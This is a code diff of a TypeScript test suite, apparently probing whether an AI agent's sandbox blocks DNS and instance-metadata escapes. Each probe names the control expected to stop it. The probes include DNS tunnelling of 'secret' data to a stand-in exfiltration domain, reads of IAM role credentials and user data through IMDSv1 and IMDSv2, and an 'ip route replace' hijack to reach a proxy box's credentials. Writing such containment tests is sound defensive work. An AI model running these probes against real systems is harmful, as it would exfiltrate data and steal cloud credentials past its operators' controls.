@@ -1,6 +1,7 @@
+import { sharing } from '../../proof/proof';
 import { LINK_LOCAL } from '../plan/addresses';
-import type { Scene } from '../plan/scene';
-import type { Attempt, Probe } from './attempt';
+import type { Roles } from '../plan/roles';
+import { type NetworkAttempt, type Probe, shell } from './attempt';
 
 /** A, NS, CNAME, SOA, NULL, PTR, HINFO, MX, TXT, RP, AAAA, LOC, SRV, NAPTR, OPT, DS, SSHFP, RRSIG, NSEC, DNSKEY, TLSA, SVCB, HTTPS, SPF, … ANY, CAA, private use. */
 const EVERY_TYPE = [
@@ -10,21 +11,12 @@ const EVERY_TYPE = [
 /** What an agent would steal, as labels of a name. */
 const TUNNEL = `${'c2VjcmV0'.repeat(7)}.${'ZGF0YQ'.repeat(9)}.exfiltrated.example.com`;
 
-const asking = (
-  id: string,
-  title: string,
-  probes: Attempt['probes'],
-  other: Partial<Attempt> = {},
-): Attempt => ({
-  id,
+const asking = sharing<NetworkAttempt>({
   group: 'the VPC resolver',
-  title,
-  invariant: 'NET-3',
-  stops: 'DNS firewall that blocks every name and fails closed, or DNS support off',
+  law: 'NET-3',
+  heldBy: 'DNS firewall that blocks every name and fails closed, or DNS support off',
   from: 'agent',
-  weakened: 'resolver',
-  probes,
-  ...other,
+  mustFailIn: ['resolver'],
 });
 
 const dns = (to: string, more: object = {}): Probe => ({
@@ -34,31 +26,31 @@ const dns = (to: string, more: object = {}): Probe => ({
   types: [1],
   ...more,
 });
-const base = ({ plan }: Scene) => plan.services.resolvers[1] ?? LINK_LOCAL.resolver;
+const base = ({ plan }: Roles) => plan.services.resolvers[1] ?? LINK_LOCAL.resolver;
 
-export const RESOLVER: readonly Attempt[] = [
-  asking('H01', 'VPC base plus two, over UDP', (scene) => [dns(base(scene))]),
+export const RESOLVER: readonly NetworkAttempt[] = [
+  asking('H01', 'VPC base plus two, over UDP', (roles) => [dns(base(roles))]),
   asking('H02', '169.254.169.253, over UDP', () => [dns(LINK_LOCAL.resolver)]),
-  asking('H03', 'VPC base plus two, over TCP', (scene) => [dns(base(scene), { stream: true })]),
+  asking('H03', 'VPC base plus two, over TCP', (roles) => [dns(base(roles), { stream: true })]),
   asking('H04', '169.254.169.253, over TCP', () => [dns(LINK_LOCAL.resolver, { stream: true })]),
-  asking('H05', 'data in the labels of a name, both addresses', (scene) => [
-    dns(base(scene), { name: TUNNEL }),
+  asking('H05', 'data in the labels of a name, both addresses', (roles) => [
+    dns(base(roles), { name: TUNNEL }),
     dns(LINK_LOCAL.resolver, { name: TUNNEL, types: [16] }),
   ]),
-  asking('H06', '39 question types', (scene) => [dns(base(scene), { types: EVERY_TYPE })]),
+  asking('H06', '39 question types', (roles) => [dns(base(roles), { types: EVERY_TYPE })]),
   asking('H07', '39 question types over TCP', () => [
     dns(LINK_LOCAL.resolver, { types: EVERY_TYPE, stream: true }),
   ]),
-  asking('H08', 'questions of class CHAOS and ANY', (scene) => [
-    dns(base(scene), { types: [16], class: 3 }),
-    dns(base(scene), { types: [16], class: 255 }),
+  asking('H08', 'questions of class CHAOS and ANY', (roles) => [
+    dns(base(roles), { types: [16], class: 3 }),
+    dns(base(roles), { types: [16], class: 255 }),
   ]),
   asking('H09', 'from a container behind the agent host', () => [dns(LINK_LOCAL.resolver)], {
     from: 'guest',
   }),
-  asking('H10', 'from source port 53 and a high one', (scene) => [
-    dns(base(scene), { sourcePort: 53 }),
-    dns(base(scene), { sourcePort: 65000 }),
+  asking('H10', 'from source port 53 and a high one', (roles) => [
+    dns(base(roles), { sourcePort: 53 }),
+    dns(base(roles), { sourcePort: 65000 }),
   ]),
 ];
 
@@ -75,21 +67,15 @@ export const get = (path: string, withToken: boolean) => ({
 export const ROLES = '/latest/meta-data/iam/security-credentials/';
 export const http = (...requests: object[]): Probe => ({ do: 'http', to: LINK_LOCAL.metadata, requests });
 
-const metadata = (
-  id: string,
-  title: string,
-  probes: Attempt['probes'],
-  other: Partial<Attempt> = {},
-): Attempt =>
-  asking(id, title, probes, {
-    group: 'instance metadata',
-    invariant: 'IMDS-1',
-    stops: 'HttpTokens required, hop limit 1',
-    weakened: 'metadata',
-    ...other,
-  });
+const metadata = sharing<NetworkAttempt>({
+  group: 'instance metadata',
+  law: 'IMDS-1',
+  heldBy: 'HttpTokens required, hop limit 1',
+  from: 'agent',
+  mustFailIn: ['metadata'],
+});
 
-export const METADATA: readonly Attempt[] = [
+export const METADATA: readonly NetworkAttempt[] = [
   metadata('I01', 'IMDSv1 on the agent host', () => [http(get('/latest/meta-data/instance-id', false))]),
   metadata('I02', 'IMDSv1 user data on the agent host', () => [http(get('/latest/user-data', false))]),
   metadata('I03', 'IMDSv1 with a token made up', () => [
@@ -99,18 +85,18 @@ export const METADATA: readonly Attempt[] = [
     }),
   ]),
   metadata('I04', 'role credentials by IMDSv2', () => [http(token, get(ROLES, true))], {
-    invariant: 'IAM-1',
-    stops: 'no instance profile',
+    law: 'IAM-1',
+    heldBy: 'no instance profile',
   }),
   metadata('I05', 'role credentials by IMDSv1', () => [http(get(ROLES, false))], {
-    invariant: 'IAM-1',
-    stops: 'no instance profile, HttpTokens required',
+    law: 'IAM-1',
+    heldBy: 'no instance profile, HttpTokens required',
   }),
   metadata(
     'I06',
     'an IMDSv2 token from a container behind it',
     () => [http(token, get('/latest/meta-data/instance-id', true))],
-    { from: 'guest', stops: 'hop limit 1' },
+    { from: 'guest', heldBy: 'hop limit 1' },
   ),
   metadata(
     'I07',
@@ -121,19 +107,14 @@ export const METADATA: readonly Attempt[] = [
   metadata(
     'I08',
     "the proxy box's credentials, with the proxy box as next hop",
-    (scene) => [
-      {
-        do: 'run',
-        command: `ip route replace ${LINK_LOCAL.metadata}/32 via ${scene.ownProxy.v4} dev eth0 onlink`.split(
-          ' ',
-        ),
-      },
+    (roles) => [
+      ...shell(`ip route replace ${LINK_LOCAL.metadata}/32 via ${roles.ownProxy.v4} dev eth0 onlink`),
       http(token, get(ROLES, true)),
     ],
     {
-      invariant: 'IAM-1',
-      stops: 'metadata belongs to the link; no instance profile',
-      undo: () => [{ do: 'run', command: `ip route del ${LINK_LOCAL.metadata}/32`.split(' ') }],
+      law: 'IAM-1',
+      heldBy: 'metadata belongs to the link; no instance profile',
+      undo: () => shell(`ip route del ${LINK_LOCAL.metadata}/32`),
     },
   ),
   metadata('I09', 'IMDSv1 on the proxy box, as a tricked proxy would ask', () => [http(get(ROLES, false))], {
